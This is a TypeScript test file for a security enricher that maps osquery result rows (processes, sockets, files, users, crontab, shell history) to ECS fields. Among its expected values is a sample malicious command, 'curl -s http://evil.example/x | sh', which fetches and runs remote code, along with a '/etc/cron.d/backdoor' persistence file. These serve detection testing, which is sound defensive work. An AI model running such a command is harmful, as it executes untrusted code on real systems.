import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import { fromRoot } from '../../common/paths.js';
import type { EnrichedEventInput } from '../../schemas/generated/enriched_event.js';
import type { ResultEvent } from '../../schemas/generated/index.js';
import { mapResultEvent } from './map-event.js';
import { tableFromQueryName } from './registry.js';

const ROWS = JSON.parse(readFileSync(fromRoot('enricher/ecs/fixtures/result-rows.json'), 'utf8')) as Record<
  string,
  ResultEvent
>;

function row(name: string): ResultEvent {
  const event = ROWS[name];
  assert.ok(event, `fixture ${name}`);
  return structuredClone(event);
}

/** Every expected field must be present with that value; fields not named are not checked. */
function assertSubset(actual: unknown, expected: unknown, path = 'doc'): void {
  if (expected !== null && typeof expected === 'object' && !Array.isArray(expected)) {
    assert.ok(
      actual !== null && typeof actual === 'object',
      `${path} should be an object, is ${JSON.stringify(actual)}`,
    );
    for (const [key, value] of Object.entries(expected))
      assertSubset((actual as Record<string, unknown>)[key], value, `${path}.${key}`);
  } else {
    assert.deepEqual(actual, expected, path);
  }
}

const CASES: Array<{ fixture: string; expect: Partial<Record<keyof EnrichedEventInput, unknown>> }> = [
  {
    fixture: 'processes',
    expect: {
      timestamp: 1795326000000,
      event: {
        kind: 'event',
        category: ['process'],
        type: ['start'],
        action: 'added',
        dataset: 'osquery.processes',
        module: 'osquery',
      },
      process: {
        pid: 18503,
        ppid: 18501,
        name: 'cat',
        executable: '/usr/bin/cat',
        command_line: 'cat /proc/self/stat',
        working_directory: '/work/main',
        start: 1795325990000,
        user: { id: '1000', name: null },
        entity_id: 'vm:18503:1795325990',
      },
    },
  },
  {
    fixture: 'process_events',
    expect: {
      event: {
        kind: 'event',
        category: ['process'],
        type: ['start'],
        action: 'execve',
        dataset: 'osquery.process_events',
      },
      process: {
        pid: 18510,
        ppid: 18501,
        name: 'curl',
        executable: '/usr/bin/curl',
        working_directory: '/tmp',
        start: 1795325995000,
      },
    },
  },
  {
    fixture: 'process_open_sockets',
    expect: {
      event: { category: ['network'], type: ['connection', 'start'], dataset: 'osquery.process_open_sockets' },
      source: { ip: '10.0.2.15', port: 51514 },
      destination: { ip: '93.184.215.14', port: 443 },
      network: { transport: 'tcp', iana_number: '6' },
      process: { pid: 18510 },
    },
  },
  {
    fixture: 'listening_ports',
    expect: {
      event: { category: ['network'], type: ['start'], dataset: 'osquery.listening_ports' },
      destination: { ip: null, port: 2024, address: '0.0.0.0' },
      network: { transport: 'tcp' },
      process: { pid: 1 },
    },
  },
  {
    fixture: 'socket_events',
    expect: {
      event: { category: ['network'], type: ['connection', 'start'], action: 'connect' },
      destination: { ip: '93.184.215.14', port: 443 },
      process: { pid: 18510, executable: '/usr/bin/curl', name: 'curl' },
    },
  },
  {
    fixture: 'file_events',
    expect: {
      event: { category: ['file'], type: ['creation'], action: 'created', dataset: 'osquery.file_events' },
      file: {
        path: '/etc/cron.d/backdoor',
        name: 'backdoor',
        directory: '/etc/cron.d',
        size: 57,
        mtime: 1795325997000,
        hash: { md5: 'd41d8cd98f00b204e9800998ecf8427e', sha1: null },
      },
    },
  },
  {
    fixture: 'file',
    expect: {
      event: { category: ['file'], type: ['creation'], dataset: 'osquery.file' },
      file: {
        path: '/usr/bin/bash',
        name: 'bash',
        directory: '/usr/bin',
        extension: null,
        size: 1265648,
        inode: '260104',
        mode: '0755',
        uid: '0',
        mtime: 1745016454000,
      },
    },
  },
  {
    fixture: 'users',
    expect: {
      event: { category: ['iam'], type: ['user', 'creation'] },
      user: { id: '1000', name: 'cloudsdk', group: { id: '1000' } },
    },
  },
  {
    fixture: 'logged_in_users',
    expect: {
      event: { category: ['session'], type: ['start'] },
      user: { name: 'cloudsdk' },
      source: { ip: '203.0.113.7' },
      process: { pid: 18400 },
    },
  },
  {
    fixture: 'deb_packages',
    expect: { event: { category: ['package'], type: ['installation'], dataset: 'osquery.deb_packages' } },
  },
  { fixture: 'kernel_modules', expect: { event: { category: ['driver'], type: ['end'], action: 'removed' } } },
  {
    fixture: 'crontab',
    expect: {
      event: { category: ['configuration'], type: ['creation'] },
      file: { path: '/etc/crontab' },
      process: { command_line: 'root cd / && run-parts --report /etc/cron.hourly' },
    },
  },
  {
    fixture: 'shell_history',
    expect: {
      event: { category: ['process'], type: ['start'] },
      user: { id: '1000' },
      process: { command_line: 'curl -s http://evil.example/x | sh', start: null },
    },
  },
  {
    fixture: 'unknown_query',
    expect: {
      event: { kind: 'state', category: ['host'], type: ['info'], dataset: 'osquery.pack_custom_weird_query' },
      process: { pid: 1, executable: '/process_api', name: 'process_api' },
    },
  },
  {
    fixture: 'signature_only',
    expect: {
      event: { dataset: 'osquery.listening_ports' },
      destination: { ip: null, port: 2024, address: '::' },
      network: { transport: 'udp' },
    },
  },
];

for (const { fixture, expect } of CASES) {
  test(`maps ${fixture} to ECS`, () => {
    const event = row(fixture);
    const { doc } = mapResultEvent(event, 1);
    assertSubset(doc, expect);
    assert.equal(doc.id, event.id);
    assert.equal(doc.event.ingested, 1);
    // The raw row is kept whole, every value as the string osquery logs.
    assert.deepEqual(doc.osquery?.columns, event.columns);
    assert.equal(doc.osquery?.name, event.name);
    assert.equal(doc.osquery?.hostIdentifier, 'vm');
  });
}

test('removed rows end what added rows started, per ECS category', () => {
  const cases: Array<[string, string[]]> = [
    ['processes', ['end']],
    ['file', ['deletion']],
    ['users', ['user', 'deletion']],
    ['process_open_sockets', ['connection', 'end']],
    ['deb_packages', ['deletion']],
  ];
  for (const [fixture, types] of cases) {
    const event = { ...row(fixture), action: 'removed' as const };
    assert.deepEqual(mapResultEvent(event, 0).doc.event.type, types, fixture);
  }
});

test('numeric columns (logger_numerics) and avsc-wrapped union values map like strings', () => {
  const event = row('processes');
  event.columns = {
    ...event.columns,
    pid: 18503,
    start_time: 1795325990,
    name: { string: 'cat' } as never,
    parent: { long: 18501 } as never,
  };
  const { doc } = mapResultEvent(event, 0);
  assert.equal(doc.process?.pid, 18503);
  assert.equal(doc.process?.ppid, 18501);
  assert.equal(doc.process?.name, 'cat');
  assert.equal(doc.osquery?.columns.pid, '18503');
});

test('the table is the last known table name in the query name', () => {
  const cases: Array<[string, string | null]> = [
    ['pack_incident-response_listening_ports', 'listening_ports'],
    ['processes', 'processes'],
    ['pack_incident-response_process_open_sockets', 'process_open_sockets'],
    ['pack_host-inventory_binary_hashes', 'binary_hashes'],
    ['crontab_snapshot', 'crontab'],
    ['pack_ossec-rootkit_some_rootkit', null],
  ];
  for (const [name, table] of cases) assert.equal(tableFromQueryName(name)?.table ?? null, table, name);
});

test('rows that cannot be an osquery result are refused with the reason', () => {
  assert.throws(() => mapResultEvent({ ...row('processes'), hostIdentifier: '' }, 0), /no hostIdentifier/);
  assert.throws(() => mapResultEvent({ ...row('processes'), action: 'bogus' as never }, 0), /unknown action bogus/);
  assert.throws(() => mapResultEvent({ ...row('processes'), unixTime: Number.NaN }, 0), /not a time/);
});
